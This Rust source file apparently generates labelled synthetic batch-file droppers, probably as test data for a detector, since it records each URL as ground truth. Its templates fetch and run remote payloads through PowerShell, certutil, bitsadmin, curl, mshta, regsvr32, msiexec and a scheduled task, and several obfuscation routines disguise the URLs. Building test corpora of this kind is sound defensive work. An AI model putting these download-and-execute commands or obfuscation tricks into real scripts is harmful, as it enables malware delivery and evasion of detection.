//! Droppers in batch.

use super::{Dice, Truth, base64, wide};
use std::collections::BTreeMap;
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".ps1", ".bat", ".dat", ""];

/// A word of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    match dice.below(9) {
        0 => text.to_owned(),
        1 => {
            let mut word = String::new();
            for piece in dice.pieces(text) {
                let name = dice.name();
                let _ = writeln!(before, "set {name}={piece}\r");
                let _ = write!(word, "%{name}%");
            }
            word
        }
        2 => {
            let mut word = String::new();
            for letter in text.chars() {
                if letter.is_ascii_lowercase() && dice.chance(40) {
                    word.push('^');
                }
                word.push(letter);
            }
            let _ = writeln!(before, "set {name}={word}\r");
            format!("%{name}%")
        }
        3 => {
            let letters: String =
                "abcdefghijklmnopqrstuvwxyz0123456789:/.-_ABCDEFGHIJKLMNOPQRSTUVWXYZ"
                    .chars()
                    .collect();
            let order = dice.order(letters.len());
            let table: String = order.iter().filter_map(|at| letters.chars().nth(*at)).collect();
            let _ = writeln!(before, "set \"{name}={table}\"\r");
            text.chars()
                .map(|letter| match table.find(letter) {
                    Some(at) => format!("%{name}:~{at},1%"),
                    None => letter.to_string(),
                })
                .collect()
        }
        4 => {
            let mark = dice.name();
            let littered = dice.littered(text, &mark);
            let _ = writeln!(before, "set {name}={littered}\r");
            format!("%{name}:{mark}=%")
        }
        5 => {
            let mut names: BTreeMap<char, String> = BTreeMap::new();
            let mut word = String::new();
            for letter in text.chars() {
                let known = names.entry(letter).or_insert_with(|| dice.name()).clone();
                let _ = write!(word, "%{known}%");
            }
            for (letter, name) in names {
                let _ = writeln!(before, "set {name}={letter}\r");
            }
            word
        }
        6 => {
            let _ = writeln!(before, "setlocal EnableDelayedExpansion\r\nset {name}=\r");
            let pieces = dice.pieces(text);
            let _ =
                writeln!(before, "for %%a in ({}) do set {name}=!{name}!%%a\r", pieces.join(" "));
            format!("!{name}!")
        }
        7 => {
            let pieces = dice.pieces(text);
            let mut heap = String::new();
            let mut places = vec![(0, 0); pieces.len()];
            for at in dice.order(pieces.len()) {
                places[at] = (heap.len(), pieces[at].len());
                heap.push_str(&pieces[at]);
            }
            let _ = writeln!(before, "set {name}={heap}\r");
            places.iter().map(|(at, length)| format!("%{name}:~{at},{length}%")).collect()
        }
        _ => {
            let inner = dice.name();
            let _ = writeln!(before, "set {inner}={text}\r\ncall set {name}=%%{inner}%%\r");
            format!("%{name}%")
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut text = dice
        .pick(&[
            "@echo off\r\n",
            "@echo off\r\ncd /d %TEMP%\r\n",
            "@echo off & setlocal\r\nrem update\r\n",
        ])
        .to_owned();
    for _ in 0..1 + dice.below(2) {
        let mut before = String::new();
        let line = delivery(dice, truth, &mut before);
        text.push_str(&before);
        text.push_str(&line);
        if super::ends(&line) {
            break;
        }
    }
    if dice.chance(30) {
        let label = dice.name();
        text.push_str(&format!("goto {label}\r\nrem never\r\n:{label}\r\n"));
    }
    text.push_str("exit /b 0\r\n");
    text
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = format!("%TEMP%\\{}.exe", dice.name());
    let var = dice.name();
    match dice.below(14) {
        0 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('{url}','{file}')\"\r\nstart \"\" \"{file}\"\r\n"
            )
        }
        1 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!("certutil.exe -urlcache -split -f {url} {file}\r\n{file}\r\n")
        }
        2 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "bitsadmin /transfer {var} /download /priority high {url} \"{file}\"\r\nstart {file}\r\n"
            )
        }
        3 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "curl -s -L -o \"{file}\" \"{url}\"\r\nif exist \"{file}\" start \"\" /b \"{file}\"\r\n"
            )
        }
        4 => {
            let url = truth.url(dice, &[".hta"]);
            let url = hide(dice, &url, before);
            format!("start \"\" mshta {url}\r\n")
        }
        5 => {
            let url = truth.url(dice, &[".sct"]);
            let url = hide(dice, &url, before);
            format!("regsvr32 /s /n /u /i:{url} scrobj.dll\r\n")
        }
        6 => {
            let url = truth.url(dice, &[".msi"]);
            let url = hide(dice, &url, before);
            format!("msiexec /q /i {url}\r\n")
        }
        7 => {
            let url = truth.url(dice, &[".ps1", ".txt"]);
            let line = format!("IEX (New-Object Net.WebClient).DownloadString('{url}')");
            format!("powershell.exe -nop -w hidden -enc {}\r\n", base64(&wide(&line)))
        }
        8 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "set {var}={url}\r\nset out={file}\r\npowershell -Command \"Invoke-WebRequest '%{var}%' -OutFile '%out%'\"\r\ncall \"%out%\"\r\n"
            )
        }
        9 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "call :{var} {url} {file}\r\ngoto :end{var}\r\n:{var}\r\ncurl -o %2 %1\r\nstart %2\r\ngoto :eof\r\n:end{var}\r\n"
            )
        }
        10 => {
            let host = dice.host();
            let files: Vec<String> = (0..2 + dice.below(3)).map(|_| dice.name()).collect();
            for file in &files {
                truth.urls.insert(format!("http://{host}/{file}.exe"));
            }
            let host = hide(dice, &host, before);
            format!(
                "set {var}={host}\r\nfor %%f in ({}) do (\r\n  certutil -urlcache -f http://%{var}%/%%f.exe %TEMP%\\%%f.exe\r\n  start %TEMP%\\%%f.exe\r\n)\r\n",
                files.join(" ")
            )
        }
        11 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "set c=%COMSPEC:~-16,1%\r\nif not exist \"{file}\" (\r\n  p^ow^ers^hell -ep bypass \"iwr -Uri {url} -OutFile {file}\"\r\n)\r\nstart \"\" {file}\r\n"
            )
        }
        12 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!("schtasks /create /f /sc minute /mo 15 /tn {var} /tr \"mshta {url}\"\r\n")
        }
        _ => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!("cmd /c \"curl {url} -o {file} && {file}\"\r\n")
        }
    }
}
